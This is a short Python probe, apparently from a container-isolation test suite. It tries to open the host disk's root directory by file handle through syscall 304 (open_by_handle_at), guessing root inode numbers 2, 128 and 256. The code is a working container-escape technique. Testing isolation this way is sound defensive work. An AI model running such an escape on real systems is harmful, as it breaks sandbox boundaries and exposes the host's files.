"""Open the root of the host's disk by its handle, past every path.

category: reading
ends: ok
control: needs rights over the whole machine
"""

import struct

AT_FDCWD = -100
known = os.open(host.data, os.O_RDONLY)
for inode in (2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("=Iiii", 8, 1, inode, 0) + bytes(120))

    def read():
        root = call(304, known, handle, 0)
        return os.listdir(root)

    tried(f"inode {inode}", read)
